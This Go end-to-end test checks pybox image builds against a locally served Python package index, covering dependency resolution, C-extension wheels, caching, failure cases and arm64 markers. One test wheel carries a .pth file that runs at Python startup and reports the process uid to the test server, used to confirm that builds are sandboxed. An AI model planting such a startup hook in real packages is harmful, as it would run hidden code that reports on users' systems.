package e2e

// End-to-end test of images that install packages from a Python package
// index: `pybox image build NAME --from stdlib --pip SPEC --index-url URL`
// against an index the test serves itself on loopback, in the "simple"
// layout of PEP 503, with wheels it makes: a pure one whose dependencies
// must be resolved (a lower bound that rules out an older version, a
// C extension on CPython's stable ABI, and a dependency whose environment
// marker is false on x86-64), and a distribution that offers only its
// source. The image's meta.json must say what came from where, the
// packages must import in a box, the same recipe again must be a cache
// hit, and every failure must say why and store nothing.

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"pybox/host/image"
	"pybox/host/paths"
	"pybox/shared/archs"
	"pybox/shared/needs"
)

// pbxcSource is the C extension of the pbxc test package: pbxc._pbxc,
// with add(a, b), on CPython's stable ABI as of 3.11 (so one build loads
// in the host's Python 3.11 and the image's 3.13).
const pbxcSource = `#define Py_LIMITED_API 0x030b0000
#include <Python.h>

static PyObject *add(PyObject *self, PyObject *args)
{
	long a, b;
	(void)self;
	if (!PyArg_ParseTuple(args, "ll", &a, &b))
		return NULL;
	return PyLong_FromLong(a + b);
}

static PyMethodDef methods[] = {
	{"add", add, METH_VARARGS, "add(a, b) -> a + b"},
	{NULL, NULL, 0, NULL},
};

static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "_pbxc", NULL, -1, methods, NULL, NULL, NULL, NULL};

PyMODINIT_FUNC PyInit__pbxc(void)
{
	return PyModule_Create(&module);
}
`

// pbxcExtension returns the compiled pbxc/_pbxc.abi3.so, or why it cannot
// be built here (no gcc, no Python headers). It is cached in
// $PYBOX_CACHE/e2e/ (where the image builds cache theirs), by the hash of
// the source and the compiler's command, so a run compiles it once.
func pbxcExtension(t testing.TB) (so []byte, missing string) {
	t.Helper()
	gcc, err := exec.LookPath("gcc")
	if err != nil {
		return nil, "no gcc, to compile the test's C extension (try: make deps)"
	}
	includes, missing := pythonIncludes()
	if missing != "" {
		return nil, missing
	}
	args := append([]string{"-shared", "-fPIC", "-O2", "-Wall", "-Werror"}, includes...)
	h := sha256.New()
	fmt.Fprintf(h, "%s\x00%s\x00%s", pbxcSource, gcc, strings.Join(args, " "))
	key := hex.EncodeToString(h.Sum(nil))[:24]

	dir := ""
	if c, err := image.CacheDir(); err == nil {
		dir = filepath.Join(filepath.Dir(c), "e2e")
		if os.MkdirAll(dir, 0o755) != nil {
			dir = ""
		}
	}
	if dir == "" {
		dir = t.TempDir() // no cache: compiled for this run only
	}
	cached := filepath.Join(dir, "pbxc-"+key+".abi3.so")
	if b, err := os.ReadFile(cached); err == nil && len(b) > 0 {
		return b, ""
	}

	// Compiled in a package directory, and imported by the host's Python
	// before it is cached: a broken extension is the test's fault, and
	// says so here rather than in the image build.
	work := t.TempDir()
	pkg := filepath.Join(work, "pbxc")
	os.MkdirAll(pkg, 0o755)
	src := filepath.Join(work, "pbxc.c")
	if err := os.WriteFile(src, []byte(pbxcSource), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(pkg, "__init__.py"), []byte(pbxcInit), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(pkg, "_pbxc.abi3.so")
	if b, err := exec.Command(gcc, append(args, "-o", out, src)...).CombinedOutput(); err != nil {
		t.Fatalf("gcc %s: %v\n%s", strings.Join(args, " "), err, b)
	}
	check := fmt.Sprintf("import sys\nif sys.version_info < (3, 11):\n    print('old')\n    raise SystemExit\nsys.path.insert(0, %q)\nimport pbxc\nprint(pbxc.add(2, 3))\n", work)
	if b, err := exec.Command(hostPython(), "-I", "-B", "-c", check).CombinedOutput(); err != nil ||
		(strings.TrimSpace(string(b)) != "5" && strings.TrimSpace(string(b)) != "old") {
		t.Fatalf("the compiled extension does not load in the host's Python: %v\n%s", err, b)
	}
	so, err = os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	tmp := cached + fmt.Sprintf(".%d.tmp", os.Getpid())
	if os.WriteFile(tmp, so, 0o644) == nil {
		os.Rename(tmp, cached)
	}
	os.Remove(tmp)
	return so, ""
}

// pythonIncludes are the compiler flags for the host's Python headers:
// python3-config's (python3-dev), or the headers of /usr/bin/python3's
// version (libpython3-dev, which make deps installs).
func pythonIncludes() ([]string, string) {
	config := "/usr/bin/python3-config"
	if _, err := os.Stat(config); err != nil {
		config, _ = exec.LookPath("python3-config")
	}
	if config != "" {
		if b, err := exec.Command(config, "--includes").Output(); err == nil && len(strings.Fields(string(b))) > 0 {
			return strings.Fields(string(b)), ""
		}
	}
	b, err := exec.Command(hostPython(), "-I", "-c", "import sys; print('%d.%d' % sys.version_info[:2])").Output()
	if err != nil {
		return nil, fmt.Sprintf("no host python3, to find Python's headers for the test's C extension: %v (try: make deps)", err)
	}
	include := "/usr/include/python" + strings.TrimSpace(string(b))
	if _, err := os.Stat(filepath.Join(include, "Python.h")); err != nil {
		return nil, "no Python headers (python3-config, or " + include + "/Python.h) for the test's C extension (try: make deps, which installs libpython3-dev)"
	}
	return []string{"-I" + include}, ""
}

// hostPython is the distribution's python3 when there is one.
func hostPython() string {
	if _, err := os.Stat("/usr/bin/python3"); err == nil {
		return "/usr/bin/python3"
	}
	return "python3"
}

// The test packages' Python code.
const (
	pbxaInit = "import pbxb, pbxc\n\n\ndef hello():\n    return 'pbxa: pbxb %s, pbxc %d' % (pbxb.V, pbxc.add(2, 3))\n"
	pbxcInit = "from ._pbxc import add\n"
	// pbxaHello is what pbxa.hello() returns with pbxb 2.0 and pbxc.
	pbxaHello = "pbxa: pbxb 2.0, pbxc 5"
)

// wheelSpec is a wheel to make (PEP 427): its distribution, version and
// tag (python-abi-platform), what it requires (Requires-Dist lines), and
// its files by path, besides its .dist-info.
type wheelSpec struct {
	name, version, tag string
	purelib            bool
	requires           []string
	files              map[string][]byte
}

// wheelTime is every member's time: the same wheel is the same bytes in
// every run.
var wheelTime = time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)

// recordHash is a RECORD entry's hash: sha256, urlsafe base64, unpadded.
func recordHash(b []byte) string {
	s := sha256.Sum256(b)
	return "sha256=" + base64.RawURLEncoding.EncodeToString(s[:])
}

// makeWheel returns the wheel's file name and bytes: the files, then
// NAME-VERSION.dist-info/{METADATA,WHEEL,top_level.txt,RECORD}, each
// listed in RECORD with its hash and size (RECORD itself with neither).
func makeWheel(w wheelSpec) (string, []byte, error) {
	distInfo := w.name + "-" + w.version + ".dist-info/"
	var meta strings.Builder
	fmt.Fprintf(&meta, "Metadata-Version: 2.1\nName: %s\nVersion: %s\nSummary: a PyBox end-to-end test package\n", w.name, w.version)
	for _, r := range w.requires {
		fmt.Fprintf(&meta, "Requires-Dist: %s\n", r)
	}
	wheelMeta := fmt.Sprintf("Wheel-Version: 1.0\nGenerator: pybox-e2e\nRoot-Is-Purelib: %t\nTag: %s\n", w.purelib, w.tag)
	tops := map[string]bool{}
	for p := range w.files {
		tops[strings.SplitN(strings.TrimSuffix(p, ".py"), "/", 2)[0]] = true
	}
	topLevel := strings.Join(slices.Sorted(maps.Keys(tops)), "\n") + "\n"

	type member struct {
		name string
		data []byte
	}
	var members []member
	for _, p := range slices.Sorted(maps.Keys(w.files)) {
		members = append(members, member{p, w.files[p]})
	}
	members = append(members,
		member{distInfo + "METADATA", []byte(meta.String())},
		member{distInfo + "WHEEL", []byte(wheelMeta)},
		member{distInfo + "top_level.txt", []byte(topLevel)})
	var record strings.Builder
	for _, m := range members {
		fmt.Fprintf(&record, "%s,%s,%d\n", m.name, recordHash(m.data), len(m.data))
	}
	fmt.Fprintf(&record, "%sRECORD,,\n", distInfo)
	members = append(members, member{distInfo + "RECORD", []byte(record.String())})

	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, m := range members {
		h := &zip.FileHeader{Name: m.name, Method: zip.Deflate, Modified: wheelTime}
		h.SetMode(0o644)
		if strings.HasSuffix(m.name, ".so") {
			h.SetMode(0o755)
		}
		f, err := zw.CreateHeader(h)
		if err != nil {
			return "", nil, err
		}
		if _, err := f.Write(m.data); err != nil {
			return "", nil, err
		}
	}
	if err := zw.Close(); err != nil {
		return "", nil, err
	}
	return fmt.Sprintf("%s-%s-%s.whl", w.name, w.version, w.tag), buf.Bytes(), nil
}

// makeSdist returns a source distribution's file name and bytes
// (NAME-VERSION.tar.gz, a setuptools project): what a package index
// offers of a distribution with no wheel.
func makeSdist(name, version string, files map[string]string) (string, []byte, error) {
	root := name + "-" + version
	files["PKG-INFO"] = fmt.Sprintf("Metadata-Version: 2.1\nName: %s\nVersion: %s\n", name, version)
	files["pyproject.toml"] = "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"" + name + "\"\nversion = \"" + version + "\"\n"
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, n := range slices.Sorted(maps.Keys(files)) {
		if err := tw.WriteHeader(&tar.Header{Name: root + "/" + n, Mode: 0o644, Size: int64(len(files[n])), ModTime: wheelTime, Typeflag: tar.TypeReg}); err != nil {
			return "", nil, err
		}
		if _, err := tw.Write([]byte(files[n])); err != nil {
			return "", nil, err
		}
	}
	if err := tw.Close(); err != nil {
		return "", nil, err
	}
	if err := gz.Close(); err != nil {
		return "", nil, err
	}
	return root + ".tar.gz", buf.Bytes(), nil
}

// packageIndex is a package index on loopback in the "simple" layout
// (PEP 503): /simple/ lists the projects, /simple/NAME/ links each file
// of one with its sha256 in the fragment, and /files/FILE serves it.
type packageIndex struct {
	srv      *httptest.Server
	URL      string            // the index URL: http://127.0.0.1:PORT/simple/
	files    map[string][]byte // by file name
	projects map[string][]string

	mu        sync.Mutex
	requested []string // every request's path, in order
}

// testPackages are the index's distributions: pbxa 1.0 needs pbxb>=2 (the
// index has 1.0 and 2.0), pbxc (a C extension, stable ABI) and, on
// aarch64 only, pbxm; pbxsrc has only a source distribution.
func testPackages(so []byte) []wheelSpec {
	return []wheelSpec{
		{name: "pbxa", version: "1.0", tag: "py3-none-any", purelib: true,
			requires: []string{"pbxb>=2", "pbxc", `pbxm; platform_machine == "aarch64"`},
			files:    map[string][]byte{"pbxa/__init__.py": []byte(pbxaInit)}},
		{name: "pbxb", version: "1.0", tag: "py3-none-any", purelib: true,
			files: map[string][]byte{"pbxb/__init__.py": []byte("V = '1.0'\n")}},
		{name: "pbxb", version: "2.0", tag: "py3-none-any", purelib: true,
			files: map[string][]byte{"pbxb/__init__.py": []byte("V = '2.0'\n")}},
		{name: "pbxc", version: "1.0", tag: "cp311-abi3-manylinux_2_17_x86_64", purelib: false,
			files: map[string][]byte{"pbxc/__init__.py": []byte(pbxcInit), "pbxc/_pbxc.abi3.so": so}},
		{name: "pbxm", version: "1.0", tag: "py3-none-any", purelib: true,
			files: map[string][]byte{"pbxm/__init__.py": []byte("import platform\nif platform.machine() != 'aarch64':\n    raise ImportError('pbxm is for aarch64 only')\n")}},
	}
}

// newPackageIndex serves testPackages and pbxsrc's source distribution
// on 127.0.0.1 until the test ends.
func newPackageIndex(t testing.TB, so []byte) *packageIndex {
	t.Helper()
	ix := &packageIndex{files: map[string][]byte{}, projects: map[string][]string{}}
	add := func(project, file string, data []byte, err error) {
		if err != nil {
			t.Fatalf("making %s: %v", project, err)
		}
		ix.files[file] = data
		ix.projects[project] = append(ix.projects[project], file)
	}
	for _, w := range testPackages(so) {
		file, data, err := makeWheel(w)
		add(w.name, file, data, err)
	}
	file, data, err := makeSdist("pbxsrc", "1.0", map[string]string{"pbxsrc/__init__.py": "V = 'from source'\n"})
	add("pbxsrc", file, data, err)
	ix.srv = httptest.NewServer(http.HandlerFunc(ix.serve))
	t.Cleanup(ix.srv.Close)
	ix.URL = ix.srv.URL + "/simple/"
	return ix
}

// add puts one more wheel on the index (before a build asks for it).
func (ix *packageIndex) add(t testing.TB, w wheelSpec) {
	t.Helper()
	file, data, err := makeWheel(w)
	if err != nil {
		t.Fatalf("making %s: %v", w.name, err)
	}
	ix.mu.Lock()
	defer ix.mu.Unlock()
	ix.files[file] = data
	ix.projects[w.name] = append(ix.projects[w.name], file)
}

func (ix *packageIndex) serve(w http.ResponseWriter, r *http.Request) {
	ix.mu.Lock()
	ix.requested = append(ix.requested, r.URL.Path)
	ix.mu.Unlock()
	page := func(title, links string) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, "<!DOCTYPE html>\n<html>\n<head><meta name=\"pypi:repository-version\" content=\"1.0\"><title>%s</title></head>\n<body>\n<h1>%s</h1>\n%s</body>\n</html>\n", title, title, links)
	}
	switch p := r.URL.Path; {
	case p == "/simple/":
		var links strings.Builder
		for _, name := range slices.Sorted(maps.Keys(ix.projects)) {
			fmt.Fprintf(&links, "<a href=\"%s/\">%s</a><br/>\n", name, name)
		}
		page("Simple index", links.String())
	case strings.HasPrefix(p, "/simple/"):
		name, slash := strings.CutSuffix(strings.TrimPrefix(p, "/simple/"), "/")
		files, ok := ix.projects[name]
		if !ok || strings.Contains(name, "/") {
			http.NotFound(w, r)
			return
		}
		if !slash {
			http.Redirect(w, r, p+"/", http.StatusMovedPermanently)
			return
		}
		var links strings.Builder
		for _, f := range files {
			fmt.Fprintf(&links, "<a href=\"../../files/%s#sha256=%s\">%s</a><br/>\n", html.EscapeString(f), ix.sha256(f), html.EscapeString(f))
		}
		page("Links for "+name, links.String())
	case strings.HasPrefix(p, "/files/"):
		data, ok := ix.files[strings.TrimPrefix(p, "/files/")]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Write(data)
	default:
		http.NotFound(w, r)
	}
}

// sha256 is the hex sha256 of a file the index serves.
func (ix *packageIndex) sha256(file string) string {
	s := sha256.Sum256(ix.files[file])
	return hex.EncodeToString(s[:])
}

// file is the name of the file the index serves of a project's version.
func (ix *packageIndex) file(project, version string) string {
	for _, f := range ix.projects[project] {
		if strings.HasPrefix(f, project+"-"+version+"-") || f == project+"-"+version+".tar.gz" {
			return f
		}
	}
	return ""
}

// fetched says whether anything asked for path.
func (ix *packageIndex) fetched(path string) bool {
	ix.mu.Lock()
	defer ix.mu.Unlock()
	return slices.Contains(ix.requested, path)
}

// log is every request so far, for a failure's message.
func (ix *packageIndex) log() string {
	ix.mu.Lock()
	defer ix.mu.Unlock()
	return strings.Join(ix.requested, "\n")
}

// indexPackage is one entry of an image's index_packages.
type indexPackage struct {
	Name    string `json:"name"`
	Version string `json:"version"`
	Wheel   string `json:"wheel"`
	SHA256  string `json:"sha256"`
	URL     string `json:"url"`
	Index   string `json:"index"`
}

// pipMeta is what the test reads of an image's meta.json.
type pipMeta struct {
	Name          string         `json:"name"`
	Digest        string         `json:"digest"`
	Preload       []string       `json:"preload"`
	IndexPackages []indexPackage `json:"index_packages"`
}

// inspectImage reads `pybox image inspect NAME`.
func inspectImage(t testing.TB, e *vmEnv, name string) *pipMeta {
	t.Helper()
	out, errOut, code := e.pybox("image", "inspect", name)
	if code != 0 {
		t.Fatalf("image inspect %s: exit %d\n%s", name, code, errOut)
	}
	var m pipMeta
	if err := json.Unmarshal([]byte(out), &m); err != nil {
		t.Fatalf("image inspect %s printed no meta.json: %v\n%.2000s", name, err, out)
	}
	return &m
}

// storeEntries are the names in the image store of e's home.
func storeEntries(t testing.TB, e *vmEnv) []string {
	t.Helper()
	des, err := os.ReadDir(paths.ImagesDir(e.home))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, d := range des {
		names = append(names, d.Name())
	}
	return names
}

// pkgsCode imports the test packages in a box and prints what the test
// checks: pbxa's hello, the versions installed, where the extension is,
// and that pbxm (aarch64 only) is not there.
const pkgsCode = `import importlib.metadata as md, importlib.util, os
import pbxa, pbxb, pbxc
print(pbxa.hello(), pbxb.V, pbxc.add(2, 3))
so = "/usr/local/lib/python3.13/dist-packages/pbxc/_pbxc.abi3.so"
print("so", os.path.isfile(so), pbxc._pbxc.__file__ == so)
print("versions", md.version("pbxa"), md.version("pbxb"), md.version("pbxc"))
print("pbxm", importlib.util.find_spec("pbxm") is not None)
`

// pkgsWant is what pkgsCode prints in an image built with --pip pbxa.
const pkgsWant = pbxaHello + " 2.0 5\nso True True\nversions 1.0 2.0 1.0\npbxm False\n"

func TestImageFromPackageIndex(t *testing.T) {
	if guestArch != archs.X86_64 {
		t.Skip("the test's C extension and its wheel's tag are x86-64's; make test runs this test")
	}
	needs.Root(t, "building an image (mmdebstrap, chroot)")
	so, missing := pbxcExtension(t)
	if missing != "" {
		needs.Unavailable(t, missing)
	}
	ix := newPackageIndex(t, so)
	e := newVMEnv(t)
	linkImages(t, e, "stdlib")

	// One real build: the first is asked to skip the cache, so that a
	// build of an earlier run (the wheels are the same bytes in every
	// run) is not taken for this one.
	build := []string{"image", "build", "pkgs", "--from", "stdlib", "--pip", "pbxa", "--index-url", ix.URL}
	t0 := time.Now()
	out, errOut, code := e.pybox(append(build, "--no-cache")...)
	if code != 0 {
		t.Fatalf("image build: exit %d\nstdout: %s\nstderr: %s\nindex requests:\n%s", code, out, errOut, ix.log())
	}
	t.Logf("image build (%v): %s", time.Since(t0).Round(time.Second), out)
	m := inspectImage(t, e, "pkgs")
	// A subtest runs the commands as itself: a failure to run one stops
	// that subtest, not its parent.
	in := func(t *testing.T) *vmEnv {
		c := *e
		c.t = t
		return &c
	}

	t.Run("index_packages", func(t *testing.T) {
		want := map[string]string{"pbxa": "1.0", "pbxb": "2.0", "pbxc": "1.0"}
		got := map[string]indexPackage{}
		for _, p := range m.IndexPackages {
			got[strings.ToLower(p.Name)] = p
		}
		if len(m.IndexPackages) != len(want) || len(got) != len(want) {
			t.Errorf("index_packages has %d entries, want pbxa 1.0, pbxb 2.0 and pbxc 1.0 only: %+v", len(m.IndexPackages), m.IndexPackages)
		}
		for name, version := range want {
			p, ok := got[name]
			if !ok {
				t.Errorf("index_packages has no %s: %+v", name, m.IndexPackages)
				continue
			}
			file := ix.file(name, version)
			if p.Version != version || p.Wheel != file {
				t.Errorf("%s: version %q, wheel %q; want %s, %s", name, p.Version, p.Wheel, version, file)
			}
			if p.SHA256 != ix.sha256(file) {
				t.Errorf("%s: sha256 %s, the index served %s", name, p.SHA256, ix.sha256(file))
			}
			if u, _, _ := strings.Cut(p.URL, "#"); u != ix.srv.URL+"/files/"+file {
				t.Errorf("%s: url %q, want %s", name, p.URL, ix.srv.URL+"/files/"+file)
			}
			if p.Index != ix.URL {
				t.Errorf("%s: index %q, want %s", name, p.Index, ix.URL)
			}
		}
		if _, ok := got["pbxm"]; ok {
			t.Errorf("pbxm is installed: its marker (platform_machine == \"aarch64\") is false on x86-64")
		}
		if ix.fetched("/files/" + ix.file("pbxm", "1.0")) {
			t.Errorf("pbxm's wheel was downloaded: its marker is false on x86-64")
		}
	})

	t.Run("the same recipe again is a cache hit", func(t *testing.T) {
		e := in(t)
		out, errOut, code := e.pybox(build...)
		if code != 0 {
			t.Fatalf("image build again: exit %d\n%s\n%s", code, out, errOut)
		}
		if !strings.Contains(out, "cache hit") || !strings.Contains(out, m.Digest) {
			t.Errorf("the second build is not a cache hit of %s: %s", m.Digest, out)
		}
		if again := inspectImage(t, e, "pkgs"); again.Digest != m.Digest {
			t.Errorf("digest %s after the second build, %s before", again.Digest, m.Digest)
		}
	})

	t.Run("built again from the same index, the same digest", func(t *testing.T) {
		e := in(t)
		out, errOut, code := e.pybox(append(slices.Clone(build), "--no-cache")...)
		if code != 0 {
			t.Fatalf("image build --no-cache: exit %d\n%s\n%s", code, out, errOut)
		}
		if strings.Contains(out, "cache hit") || !strings.Contains(out, m.Digest) {
			t.Errorf("a real rebuild from the same index did not give %s: %s", m.Digest, out)
		}
	})

	ix.add(t, wheelSpec{name: "pbxbad", version: "1.0", tag: "py3-none-any", purelib: true,
		files: map[string][]byte{"pbxbad/__init__.py": []byte("raise RuntimeError('pbxbad cannot start here')\n")}})
	reqs := filepath.Join(t.TempDir(), "requirements.txt")
	if err := os.WriteFile(reqs, []byte("pbxb==2.0 --hash=sha256:"+strings.Repeat("0", 64)+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name, image string
		args        []string
		want        []string // in the message, lower-cased
		asked       string   // what pip must have asked the index for: the failure is pip's, not the flags'
	}{
		{"a source distribution only", "srconly", []string{"--pip", "pbxsrc", "--index-url", ix.URL}, []string{"pbxsrc", "source distribution"}, "/simple/pbxsrc/"},
		{"a hash that does not match", "badhash", []string{"--require-hashes", "--requirements", reqs, "--index-url", ix.URL}, []string{"hash", "pbxb"}, "/simple/pbxb/"},
		{"a module that does not import", "badimport", []string{"--pip", "pbxbad", "--index-url", ix.URL}, []string{"pbxbad", "runtimeerror: pbxbad cannot start here"}, "/simple/pbxbad/"},
		{"an unreachable index", "noindex", []string{"--pip", "pbxa", "--index-url", "http://127.0.0.1:1/simple/"}, []string{"http://127.0.0.1:1/simple/"}, ""},
	} {
		t.Run("fails: "+c.name, func(t *testing.T) {
			e := in(t)
			before := storeEntries(t, e)
			out, errOut, code := e.pybox(append([]string{"image", "build", c.image, "--from", "stdlib"}, c.args...)...)
			if code == exitOK {
				t.Fatalf("the build succeeded: %s", out)
			}
			t.Logf("exit %d: %s", code, errOut)
			if code != exitFailure {
				t.Errorf("exit %d, want %d: a failed build (%d is a usage error: nothing ran)", code, exitFailure, exitUsage)
			}
			for _, w := range c.want {
				if !strings.Contains(strings.ToLower(errOut), w) {
					t.Errorf("the failure does not say %q:\n%s", w, errOut)
				}
			}
			if c.asked != "" && !ix.fetched(c.asked) {
				t.Errorf("nothing asked the index for %s: the build failed before pip looked\nindex requests:\n%s", c.asked, ix.log())
			}
			if _, err := os.Lstat(image.Dir(e.home, c.image, guestArch)); err == nil {
				t.Errorf("%s is in the store after the failed build", image.Dir(e.home, c.image, guestArch))
			}
			if after := storeEntries(t, e); !slices.Equal(before, after) {
				t.Errorf("the store held %v before the failed build, %v after", before, after)
			}
			list, _, code := e.pybox("image", "list", "--json")
			var entries []struct {
				Name string `json:"name"`
			}
			if err := json.Unmarshal([]byte(list), &entries); code != 0 || err != nil {
				t.Fatalf("image list --json: exit %d, %v\n%s", code, err, list)
			}
			for _, en := range entries {
				if en.Name == c.image {
					t.Errorf("image list lists %s after its failed build", c.image)
				}
			}
			if out, _, code := e.pybox("image", "inspect", c.image); code == 0 {
				t.Errorf("image inspect %s succeeded after its failed build: %.400s", c.image, out)
			}
		})
	}

	// A hostile wheel: its .pth file, which Python runs as it starts,
	// calls the index back with its uid. No build step may run it where
	// it can: pip's jail has the network but no site module; the other
	// jails have no network; the apt layer's maintainer scripts, root
	// with the network, run with /usr/local set aside.
	ix.add(t, wheelSpec{name: "pbxpth", version: "1.0", tag: "py3-none-any", purelib: true, files: map[string][]byte{
		"pbxpth.pth": fmt.Appendf(nil, "import builtins, os, urllib.request; builtins.PBX_PTH = os.getuid(); exec(%q)\n",
			"try:\n urllib.request.urlopen('"+ix.srv.URL+"/pth-ran/' + str(os.getuid()), timeout=3)\nexcept Exception:\n pass"),
		"pbxpth/__init__.py": []byte("")}})
	t.Run("a .pth from the index runs in no build step that could reach out", func(t *testing.T) {
		e := in(t)
		for _, args := range [][]string{
			{"image", "build", "pthbase", "--from", "stdlib", "--pip", "pbxpth", "--index-url", ix.URL, "--no-cache"},
			{"image", "build", "pthlayer", "--from", "pthbase", "--pip", "pbxb", "--apt", "python3-tabulate", "--index-url", ix.URL, "--no-cache"},
		} {
			if out, errOut, code := e.pybox(args...); code != 0 {
				t.Fatalf("%s: exit %d\n%s\n%s", strings.Join(args, " "), code, out, errOut)
			}
		}
		if log := ix.log(); strings.Contains(log, "/pth-ran/") {
			t.Errorf("the .pth file ran with the network during a build:\n%s", log)
		}
		if !strings.Contains(ix.log(), "/simple/pbxpth/") {
			t.Errorf("pip never asked for pbxpth:\n%s", ix.log())
		}
	})

	// For arm64, built on this x86-64 machine: pip runs under the
	// image's own Python through qemu-user, so the aarch64 marker is
	// true and pbxm comes along, which a resolve for this machine
	// would leave out.
	ix.add(t, wheelSpec{name: "pbxd", version: "1.0", tag: "py3-none-any", purelib: true,
		requires: []string{"pbxb>=2", `pbxm; platform_machine == "aarch64"`},
		files:    map[string][]byte{"pbxd/__init__.py": []byte("import pbxb\n")}})
	t.Run("for arm64 the markers are the image's", func(t *testing.T) {
		e := in(t)
		if missing, err := linkImagesInto(e.home, archs.Arm64, "stdlib"); err != nil || missing != "" {
			t.Fatalf("the arm64 stdlib image (make test builds it): %v %s", err, missing)
		}
		args := []string{"image", "build", "pkgarm", "--arch", "arm64", "--from", "stdlib", "--pip", "pbxd", "--index-url", ix.URL, "--no-cache"}
		if out, errOut, code := e.pybox(args...); code != 0 {
			t.Fatalf("%s: exit %d\n%s\n%s", strings.Join(args, " "), code, out, errOut)
		}
		js, _, code := e.pybox("image", "inspect", "pkgarm", "--arch", "arm64")
		var m pipMeta
		if err := json.Unmarshal([]byte(js), &m); code != 0 || err != nil {
			t.Fatalf("image inspect pkgarm --arch arm64: exit %d, %v\n%s", code, err, js)
		}
		got := map[string]string{}
		for _, p := range m.IndexPackages {
			got[p.Name] = p.Version
		}
		if want := map[string]string{"pbxd": "1.0", "pbxb": "2.0", "pbxm": "1.0"}; !maps.Equal(got, want) {
			t.Errorf("arm64 image's index packages %v, want %v", got, want)
		}
	})

	t.Run("in a box", func(t *testing.T) {
		e := in(t)
		e.mustStart("--images", "pkgs,pthlayer")
		// The .pth does run, in a box: as the box's user, with no network.
		pth := runPy(t, e, "import builtins, tabulate, pbxb\nprint(getattr(builtins, 'PBX_PTH', 'did not run'), pbxb.V)", "--image", "pthlayer", "--timeout", "30").receipt(t)
		if pth.Status != "ok" || pth.Capture.Stdout == "" || strings.HasPrefix(pth.Capture.Stdout, "0 ") || strings.HasPrefix(pth.Capture.Stdout, "did not run") || !strings.HasSuffix(pth.Capture.Stdout, " 2.0\n") {
			t.Errorf("the .pth in a box: status %s, stdout %q, stderr %s", pth.Status, pth.Capture.Stdout, pth.Capture.Stderr)
		}
		rc := runPy(t, e, pkgsCode, "--image", "pkgs", "--timeout", "30").receipt(t)
		if rc.Status != "ok" || rc.Capture.Stdout != pkgsWant {
			t.Errorf("status %s (%s), stdout %q, want %q; stderr:\n%s", rc.Status, rc.Reason, rc.Capture.Stdout, pkgsWant, rc.Capture.Stderr)
		}
		if rc.Image.Name != "pkgs" || rc.Image.Digest != m.Digest {
			t.Errorf("the box ran image %+v, want pkgs %s", rc.Image, m.Digest)
		}
	})
}
